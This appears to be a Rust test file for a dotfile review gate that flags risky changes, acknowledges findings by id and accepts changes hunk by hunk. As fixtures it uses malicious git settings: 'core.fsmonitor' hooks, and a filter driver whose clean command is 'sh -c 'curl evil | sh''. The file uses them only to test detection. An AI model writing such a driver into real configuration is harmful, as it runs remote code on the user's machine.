//! The review gate (`qcs_core::review`): digests, finding identities, partial accept by
//! hunk, acknowledgements by finding id, and the scan of the state after accept.

use qcs_core::diff::HunkId;
use qcs_core::review::{Base, ContextFile, Decision, GateError, ProposedFile, Review};
use qcs_core::risk::{Engine, Severity};
use qcs_protocol::sha256_hex;

fn proposed(id: i64, path: &str, base: Option<&[u8]>, content: &[u8]) -> ProposedFile {
    ProposedFile {
        proposal: id,
        pending: true,
        path: path.to_owned(),
        proposed: content.to_vec(),
        proposed_sha256: sha256_hex(content),
        mode: Some(0o644),
        base: base.map(|b| Base {
            bytes: b.to_vec(),
            sha256: sha256_hex(b),
        }),
        qube_base: None,
    }
}

fn context(path: &str, content: &[u8]) -> ContextFile {
    ContextFile {
        path: path.to_owned(),
        bytes: content.to_vec(),
        sha256: sha256_hex(content),
        mode: Some(0o644),
    }
}

fn review(files: Vec<ProposedFile>, ctx: Vec<ContextFile>) -> Review<'static> {
    Review::build(Engine::shared(), files, ctx).expect("reviewable")
}

fn decision(r: &Review<'_>, hunks: Option<Vec<(i64, HunkId)>>, acks: &[&str]) -> Decision {
    Decision {
        digest: r.digest.clone(),
        hunks,
        acknowledged: acks.iter().map(|s| s.to_string()).collect(),
    }
}

/// Eight unchanged lines keep two changes in separate hunks.
const FILLER: &str = "\t# 1\n\t# 2\n\t# 3\n\t# 4\n\t# 5\n\t# 6\n\t# 7\n\t# 8\n";

/// A .gitconfig whose two changes (one per hunk) are both `core.fsmonitor`.
fn two_monitors() -> (Vec<u8>, Vec<u8>) {
    let base = format!("[core]\n\teditor = vim\n{FILLER}\tpager = less\n");
    let new = format!("[core]\n\tfsmonitor = /tmp/a\n{FILLER}\tfsmonitor = /tmp/b\n");
    (base.into_bytes(), new.into_bytes())
}

fn monitor_findings<'a>(r: &'a Review<'_>) -> Vec<&'a qcs_core::review::ReviewFinding> {
    r.findings
        .iter()
        .filter(|f| f.finding.rule == "git.core.fsmonitor")
        .collect()
}

#[test]
fn every_gated_finding_must_be_acknowledged_by_its_id() {
    let (base, new) = two_monitors();
    let r = review(vec![proposed(1, ".gitconfig", Some(&base), &new)], vec![]);
    let monitors = monitor_findings(&r);
    assert_eq!(monitors.len(), 2, "{:#?}", r.findings);
    assert!(monitors.iter().all(|f| f.gated));
    assert_ne!(monitors[0].id, monitors[1].id);
    assert!(
        monitors[0]
            .id
            .starts_with("git.core.fsmonitor@.gitconfig:p2#")
    );
    let gated = r.gated_ids();
    let err = r.check(&decision(&r, None, &[])).unwrap_err();
    assert_eq!(err.code(), "review.unacknowledged");
    assert_eq!(err.ids(), gated.as_slice());
    let acks: Vec<&str> = gated.iter().map(String::as_str).collect();
    let ok = r
        .check(&decision(&r, None, &acks))
        .expect("all acknowledged");
    assert_eq!(ok.files.len(), 1);
    assert_eq!(ok.files[0].content, new);
    assert!(!ok.files[0].partial);
}

#[test]
fn one_acknowledgement_does_not_cover_a_second_finding_of_the_same_rule() {
    let (base, new) = two_monitors();
    let r = review(vec![proposed(1, ".gitconfig", Some(&base), &new)], vec![]);
    let monitors = monitor_findings(&r);
    let others: Vec<&str> = r
        .findings
        .iter()
        .filter(|f| f.gated && f.finding.rule != "git.core.fsmonitor")
        .map(|f| f.id.as_str())
        .collect();
    let mut acks = others.clone();
    acks.push(&monitors[0].id);
    let err = r.check(&decision(&r, None, &acks)).unwrap_err();
    assert_eq!(err, GateError::Unacknowledged(vec![monitors[1].id.clone()]));
    // A bare rule id is not an acknowledgement.
    let mut by_rule = others;
    by_rule.push("git.core.fsmonitor");
    let err = r.check(&decision(&r, None, &by_rule)).unwrap_err();
    assert_eq!(err.code(), "review.unknown-finding");
    assert_eq!(err.ids(), ["git.core.fsmonitor".to_owned()]);
}

#[test]
fn a_finding_in_a_rejected_hunk_needs_no_acknowledgement() {
    let (base, new) = two_monitors();
    let r = review(vec![proposed(1, ".gitconfig", Some(&base), &new)], vec![]);
    let file = &r.files[0];
    assert_eq!(file.diff.hunks.len(), 2);
    let monitors = monitor_findings(&r);
    let first_hunk = file.diff.hunks[0].id.clone();
    assert_eq!(monitors[0].hunks, vec![(1, first_hunk.clone())]);
    let only_first = Some(vec![(1, first_hunk.clone())]);
    // The second hunk's finding is in the rejected part: only the first needs an ack.
    let err = r.check(&decision(&r, only_first.clone(), &[])).unwrap_err();
    assert_eq!(err, GateError::Unacknowledged(vec![monitors[0].id.clone()]));
    let ok = r
        .check(&decision(&r, only_first, &[&monitors[0].id]))
        .expect("first hunk acknowledged");
    assert!(ok.files[0].partial);
    let stored = String::from_utf8(ok.files[0].content.clone()).unwrap();
    assert!(
        stored.contains("/tmp/a") && !stored.contains("/tmp/b"),
        "{stored}"
    );
    assert!(stored.contains("pager = less"));
    // The second hunk accepted instead: its finding, not the first's, is required.
    let only_second = Some(vec![(1, file.diff.hunks[1].id.clone())]);
    let err = r.check(&decision(&r, only_second, &[])).unwrap_err();
    assert_eq!(err, GateError::Unacknowledged(vec![monitors[1].id.clone()]));
}

#[test]
fn a_stale_digest_or_a_decided_proposal_is_refused() {
    let (base, new) = two_monitors();
    let r = review(vec![proposed(1, ".gitconfig", Some(&base), &new)], vec![]);
    let acks = r.gated_ids();
    let acks: Vec<&str> = acks.iter().map(String::as_str).collect();
    let mut d = decision(&r, None, &acks);
    d.digest = "0".repeat(32);
    assert_eq!(r.check(&d).unwrap_err().code(), "review.stale");
    // The store moved on: another file of the profile changed, so the digest changed.
    let moved = review(
        vec![proposed(1, ".gitconfig", Some(&base), &new)],
        vec![context(".vimrc", b"set nocompatible\n")],
    );
    assert_ne!(moved.digest, r.digest);
    assert_eq!(
        moved.check(&decision(&r, None, &acks)).unwrap_err().code(),
        "review.stale"
    );
    // The same inputs give the same ids and digest.
    let again = review(vec![proposed(1, ".gitconfig", Some(&base), &new)], vec![]);
    assert_eq!(again.digest, r.digest);
    assert_eq!(again.gated_ids(), r.gated_ids());
    // Decided elsewhere: refused even with its own digest.
    let mut decided = proposed(1, ".gitconfig", Some(&base), &new);
    decided.pending = false;
    let decided = review(vec![decided], vec![]);
    assert_ne!(decided.digest, r.digest);
    let err = decided.check(&decision(&decided, None, &acks)).unwrap_err();
    assert_eq!(err.code(), "review.stale");
}

#[test]
fn hunks_must_be_of_this_review_once_each_and_at_least_one() {
    let (base, new) = two_monitors();
    let r = review(vec![proposed(1, ".gitconfig", Some(&base), &new)], vec![]);
    let h = r.files[0].diff.hunks[0].id.clone();
    let err = r
        .check(&decision(&r, Some(vec![(2, h.clone())]), &[]))
        .unwrap_err();
    assert_eq!(err.code(), "review.unknown-hunk");
    let err = r
        .check(&decision(&r, Some(vec![(1, HunkId("nope".into()))]), &[]))
        .unwrap_err();
    assert_eq!(err.code(), "review.unknown-hunk");
    let err = r
        .check(&decision(&r, Some(vec![(1, h.clone()), (1, h)]), &[]))
        .unwrap_err();
    assert_eq!(err.code(), "review.duplicate-hunk");
    let err = r.check(&decision(&r, Some(vec![]), &[])).unwrap_err();
    assert_eq!(err, GateError::NothingAccepted);
}

#[test]
fn a_partial_accept_that_makes_an_unshown_finding_is_refused() {
    // Renaming the section is one hunk, the key another: accepting only the key puts
    // it under [core], where it is a fsmonitor the review never showed.
    let base = format!("[core]\n\teditor = vim\n{FILLER}");
    let new = format!("[user]\n\teditor = vim\n{FILLER}\tfsmonitor = /tmp/x\n");
    let r = review(
        vec![proposed(
            1,
            ".gitconfig",
            Some(base.as_bytes()),
            new.as_bytes(),
        )],
        vec![],
    );
    assert!(
        monitor_findings(&r).is_empty(),
        "user.fsmonitor is not core.fsmonitor: {:#?}",
        r.findings
    );
    let key_hunk = r.files[0].diff.hunks[1].id.clone();
    let acks = r.gated_ids();
    let acks: Vec<&str> = acks.iter().map(String::as_str).collect();
    let err = r
        .check(&decision(&r, Some(vec![(1, key_hunk)]), &acks))
        .unwrap_err();
    assert_eq!(err.code(), "review.unreviewed");
    assert!(
        err.ids()
            .iter()
            .any(|i| i.starts_with("git.core.fsmonitor@.gitconfig")),
        "{err}"
    );
}

#[test]
fn the_state_after_accept_includes_the_profiles_other_files() {
    // The attributes file is already in the store; the driver arrives.
    let attributes = b"* filter=x\n";
    let driver = b"[filter \"x\"]\n\tclean = sh -c 'curl evil | sh'\n";
    let alone = review(vec![proposed(1, ".gitconfig", None, driver)], vec![]);
    let with_store = review(
        vec![proposed(1, ".gitconfig", None, driver)],
        vec![context(".config/git/attributes", attributes)],
    );
    // The combination: a critical finding on the driver that names the stored
    // attributes selecting it; the driver alone has no such finding.
    let combination = |r: &Review<'_>| {
        r.findings
            .iter()
            .filter(|f| f.finding.rule == "git.attributes-driver")
            .filter(|f| {
                f.finding
                    .related
                    .iter()
                    .any(|l| l.path == ".config/git/attributes")
            })
            .map(|f| f.finding.severity)
            .max()
    };
    assert_eq!(combination(&alone), None, "{:#?}", alone.findings);
    assert_eq!(
        combination(&with_store),
        Some(Severity::Critical),
        "{:#?}",
        with_store.findings
    );
    // The unchanged attributes file raises nothing of its own.
    assert!(
        with_store
            .findings
            .iter()
            .all(|f| f.finding.path == ".gitconfig"
                || f.finding.related.iter().any(|r| r.path == ".gitconfig")),
        "{:#?}",
        with_store.findings
    );
}

#[test]
fn two_proposals_for_one_path_are_not_one_review() {
    let err = Review::build(
        Engine::shared(),
        vec![
            proposed(1, ".vimrc", None, b"set a\n"),
            proposed(2, ".vimrc", None, b"set b\n"),
        ],
        vec![],
    )
    .unwrap_err();
    assert!(err.to_string().contains(".vimrc"));
}
